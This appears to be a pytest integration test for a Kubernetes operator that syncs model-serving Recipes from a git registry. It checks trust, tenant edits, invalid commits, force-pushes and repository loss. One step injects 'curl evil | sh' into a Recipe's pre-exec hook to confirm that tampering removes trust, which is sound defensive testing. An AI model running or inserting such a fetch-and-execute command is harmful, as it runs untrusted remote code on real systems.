"""A RecipeRegistry on the testbed against a real git server on loopback (``tests/gitserver.py``):
the operator process fetches it (dulwich, smart HTTP), writes its Recipes into the target
namespace and keeps them in sync; trust follows ``recipe/trust.py``.

One registry walks through: first sync (annotations, path-qualified names, a Recipe of the same
name it does not own left alone), untrusted then trusted, a tenant's edit that loses trust until
a requested sync writes the spec back, a recipe that turns invalid in a new commit (the old
Recipe keeps serving, the problem names the file), a force-pushed ref, and the repository gone
(Synced False, objects kept).
"""

from __future__ import annotations

import secrets
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from sparkrun_operator.recipe.trust import recipe_trust
from sparkrun_operator.render import keys
from sparkrun_testbed.kubeapi import KubeApi
from tests.gitserver import GitServer, RepoHandle
from tests.operator.conftest import API, OperatorProcess, condition

RECIPE = """\
model: Qwen/Qwen3-0.6B
runtime: vllm
container: vllm/vllm-openai:v0.33.0
defaults:
  port: 8000
  served_model_name: {served}
pre_exec:
  - echo hook
command: vllm serve {{model}} --port {{port}}
"""
INVALID = """\
runtime: vllm
min_nodes: 0
"""


def _registry(kube: KubeApi, name: str) -> dict[str, Any]:
    found = kube.get(API, "RecipeRegistry", name)
    assert found is not None
    return found


def _recipe(kube: KubeApi, namespace: str, name: str) -> dict[str, Any] | None:
    return kube.get(API, "Recipe", name, namespace=namespace)


@pytest.fixture
def registry_name(kube: KubeApi) -> Iterator[str]:
    name = f"reg-{secrets.token_hex(4)}"
    yield name
    kube.delete(API, "RecipeRegistry", name)


def _synced_at(kube: KubeApi, name: str, commit: str, *, timeout: float = 60.0) -> dict[str, Any]:
    def probe() -> dict[str, Any] | None:
        obj = _registry(kube, name)
        cond = condition(obj, "Synced")
        if cond is None or cond["status"] != "True" or (obj.get("status") or {}).get("commit") != commit:
            return None
        return obj

    return kube.wait(probe, timeout=timeout, what=f"RecipeRegistry {name} synced at {commit[:12]}")


def _request_sync(kube: KubeApi, name: str) -> None:
    kube.request(
        "PATCH",
        f"/apis/{API}/reciperegistries/{name}",
        json={"metadata": {"annotations": {keys.ANNOTATION_SYNC_REQUESTED: secrets.token_hex(6)}}},
        headers={"Content-Type": "application/merge-patch+json"},
    )


def _patch_spec(kube: KubeApi, name: str, spec: dict[str, Any]) -> None:
    kube.request(
        "PATCH",
        f"/apis/{API}/reciperegistries/{name}",
        json={"spec": spec},
        headers={"Content-Type": "application/merge-patch+json"},
    )


def _first_commit(repo: RepoHandle) -> str:
    repo.write("recipes/qwen-small.yaml", RECIPE.format(served="small"))
    repo.write("recipes/team-a/qwen.yaml", RECIPE.format(served="a"))
    repo.write("recipes/team-b/qwen.yaml", RECIPE.format(served="b"))
    repo.write("recipes/taken.yaml", RECIPE.format(served="taken"))
    repo.write("recipes/.hidden/ignored.yaml", RECIPE.format(served="hidden"))
    return repo.commit("first")


def test_registry_sync_trust_invalid_force_push_and_gone(
    kube: KubeApi,
    namespace: str,
    operator_factory: Callable[..., OperatorProcess],
    git_server: GitServer,
    registry_name: str,
) -> None:
    repo = git_server.create_repo(registry_name)
    first = _first_commit(repo)
    # a Recipe of a name the registry will want, made by a tenant: never touched
    kube.create(
        {
            "apiVersion": API,
            "kind": "Recipe",
            "metadata": {"name": "taken", "namespace": namespace},
            "spec": {"model": "org/tenant-model"},
        }
    )
    operator_factory(namespace)
    kube.create(
        {
            "apiVersion": API,
            "kind": "RecipeRegistry",
            "metadata": {"name": registry_name},
            "spec": {"url": repo.url_http, "subpath": "recipes", "targetNamespace": namespace},
        }
    )
    registry = _synced_at(kube, registry_name, first)
    status = registry["status"]
    catalog = {e["catalogName"]: e for e in status["recipes"]}
    assert set(catalog) == {"qwen-small", "team-a/qwen", "team-b/qwen", "taken"}
    assert catalog["team-a/qwen"]["name"] != catalog["team-b/qwen"]["name"]
    assert status["counts"]["valid"] == 4
    assert any("taken" in p["message"] and "name taken" in p["message"] for p in status["problems"])
    tenant = _recipe(kube, namespace, "taken")
    assert tenant is not None
    assert tenant["spec"]["model"] == "org/tenant-model"
    assert keys.LABEL_REGISTRY not in (tenant["metadata"].get("labels") or {})

    small = _recipe(kube, namespace, "qwen-small")
    assert small is not None
    annotations = small["metadata"]["annotations"]
    assert annotations[keys.ANNOTATION_CATALOG_NAME] == "qwen-small"
    assert annotations[keys.ANNOTATION_REGISTRY_PATH] == "recipes/qwen-small.yaml"
    assert annotations[keys.ANNOTATION_REGISTRY_COMMIT] == first
    assert small["metadata"]["ownerReferences"][0]["uid"] == registry["metadata"]["uid"]
    qualified = _recipe(kube, namespace, catalog["team-b/qwen"]["name"])
    assert qualified is not None
    assert qualified["metadata"]["annotations"][keys.ANNOTATION_CATALOG_NAME] == "team-b/qwen"

    # untrusted registry: its recipe is not trusted (its hooks never run)
    verdict = recipe_trust(small, registry)
    assert not verdict.trusted
    assert "not trusted" in verdict.reason
    # trusted (acknowledged): trusted while the spec is as written
    _patch_spec(kube, registry_name, {"trusted": True, "acknowledgeTrust": True})
    registry = kube.wait(
        lambda: (r := _registry(kube, registry_name))["spec"].get("trusted") and r,
        timeout=10,
        what="trusted",
    )
    assert recipe_trust(small, registry).trusted

    # a tenant edits the spec: not trusted until a sync writes it back
    kube.request(
        "PATCH",
        f"/apis/{API}/namespaces/{namespace}/recipes/qwen-small",
        json={"spec": {"preExec": ["curl evil | sh"]}},
        headers={"Content-Type": "application/merge-patch+json"},
    )
    edited = _recipe(kube, namespace, "qwen-small")
    assert edited is not None
    assert not recipe_trust(edited, _registry(kube, registry_name)).trusted
    _request_sync(kube, registry_name)

    def restored() -> dict[str, Any] | None:
        now = _recipe(kube, namespace, "qwen-small")
        return now if now is not None and now["spec"].get("preExec") == ["echo hook"] else None

    back = kube.wait(restored, timeout=60, what="the registry's spec written back")
    assert recipe_trust(back, _registry(kube, registry_name)).trusted

    # a recipe that turns invalid in a new commit: the old Recipe keeps serving
    repo.write("recipes/qwen-small.yaml", INVALID)
    second = repo.commit("break qwen-small")
    _request_sync(kube, registry_name)
    registry = _synced_at(kube, registry_name, second)
    kept = _recipe(kube, namespace, "qwen-small")
    assert kept is not None
    assert kept["spec"] == back["spec"]
    problem = next(p for p in registry["status"]["problems"] if p["path"] == "recipes/qwen-small.yaml")
    assert "invalid" in problem["message"]
    entry = next(e for e in registry["status"]["recipes"] if e["catalogName"] == "qwen-small")
    assert entry["valid"] is False
    assert registry["status"]["counts"]["invalid"] == 1

    # force-push the branch back to the first commit: that commit is synced again
    repo.force_push_to("main", first)
    _request_sync(kube, registry_name)
    registry = _synced_at(kube, registry_name, first)
    assert registry["status"]["counts"]["invalid"] == 0

    # the repository disappears: Synced False with the reason, objects kept
    repo.delete_repo()
    _request_sync(kube, registry_name)

    def failed() -> dict[str, Any] | None:
        obj = _registry(kube, registry_name)
        cond = condition(obj, "Synced")
        return obj if cond is not None and cond["reason"] == "FetchFailed" else None

    gone = kube.wait(failed, timeout=60, what="Synced False FetchFailed")
    synced = condition(gone, "Synced")
    assert synced is not None
    assert synced["status"] == "False"
    assert "not_found" in synced["message"] or "unreachable" in synced["message"]
    assert gone["status"]["commit"] == first
    still = _recipe(kube, namespace, "qwen-small")
    assert still is not None
    assert recipe_trust(still, gone).trusted
